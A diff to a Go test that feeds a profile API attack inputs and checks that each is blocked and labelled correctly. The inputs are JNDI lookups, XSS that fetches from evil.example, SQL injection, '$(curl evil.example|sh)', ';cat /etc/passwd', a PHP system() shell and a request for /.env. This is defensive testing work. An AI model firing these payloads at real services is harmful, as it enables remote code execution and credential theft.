@@ -70,7 +70,7 @@ func TestAttacksAtTheAPIsRoutesAreStopped(t *testing.T) {
 		"JNDI in the query":         {"GET", "/v1/profiles?handles=${jndi:ldap://evil.example/a}", "", "java"},
 		"a script in bio":           {"PATCH", "/v1/profiles/me", `{"bio":"<script>fetch('//evil.example')</script>"}`, "xss"},
 		"the same, escaped":         {"PATCH", "/v1/profiles/me", `{"bio":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, "xss"},
-		"SQL in bio":                {"PATCH", "/v1/profiles/me", `{"bio":"x' OR '1'='1"}`, "sqli"},
+		"SQL in location":           {"PATCH", "/v1/profiles/me", `{"location":"x' OR '1'='1"}`, "sqli"},
 		"a script as link":          {"PATCH", "/v1/profiles/me", `{"links":[{"label":"x","url":"javascript:alert(1)"}]}`, "xss"},
 		"deep in metadata":          {"PATCH", "/v1/profiles/me", `{"metadata":{"a":[{"b":{"c":["ok","<img src=x onerror=alert(1)>"]}}]}}`, "xss"},
 		"as a name in metadata":     {"PATCH", "/v1/profiles/me", `{"metadata":{"<svg onload=alert(1)>":1}}`, "xss"},
@@ -83,7 +83,7 @@ func TestAttacksAtTheAPIsRoutesAreStopped(t *testing.T) {
 		"a command in preferences":  {"PATCH", "/v1/profiles/me/preferences", `{"content_language":"en;cat /etc/passwd"}`, "rce"},
 		"a command in a handle":     {"PATCH", "/v1/profiles/me", `{"handle":"$(curl evil.example|sh)"}`, "rce"},
 		"PHP in display_name":       {"PATCH", "/v1/profiles/me", `{"display_name":"<?php system($_GET[0]); ?>"}`, "php"},
-		"a reason":                  {"POST", "/v1/admin/profiles/019ca945-0a00-7aa2-b11b-b27c75189337/suspend", `{"reason":"1' UNION SELECT 1,2,3 --"}`, "sqli"},
+		"a reason":                  {"POST", "/v1/admin/profiles/019ca945-0a00-7aa2-b11b-b27c75189337/suspend", `{"reason":"${jndi:ldap://evil.example/a}"}`, "java"},
 		"a method":                  {"TRACE", "/v1/profiles/me", "", "method"},
 		"a dotfile":                 {"GET", "/.env", "", "lfi"},
 	} {
